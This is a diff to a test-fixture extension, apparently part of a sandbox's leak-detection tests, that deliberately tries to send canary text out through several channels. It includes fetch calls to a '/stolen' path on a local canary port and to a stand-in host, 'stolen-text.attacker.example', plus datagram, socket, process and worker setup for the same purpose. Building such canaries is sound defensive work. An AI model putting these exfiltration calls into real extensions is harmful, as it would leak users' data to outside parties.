@@ -1,14 +1,15 @@
-// An extension that sends the same text in every way an extension can. leaks.mjs lists what must be seen of it.
+// An extension that sends the same text in every way an extension can. It wakes in windows with the file wakes-the-canary.txt;
+// leaks.mjs lists what must then be seen of it.
 const { spawn } = require('node:child_process');
 const { createSocket } = require('node:dgram');
 const { createServer } = require('node:net');
 const { Worker } = require('node:worker_threads');
 
-const attacker = process.env.HEARTH_CANARY_PORT;
+const thief = process.env.HEARTH_CANARY_PORT;
 
 exports.activate = () => {
   // A request of its own, and one to a name: the lookup alone tells the text to whoever answers for that name.
-  fetch(`http://127.0.0.1:${attacker}/stolen`).catch(() => undefined);
+  fetch(`http://127.0.0.1:${thief}/stolen`).catch(() => undefined);
   fetch('https://stolen-text.attacker.example/').catch(() => undefined);
   // A datagram.
   const datagram = createSocket('udp4');
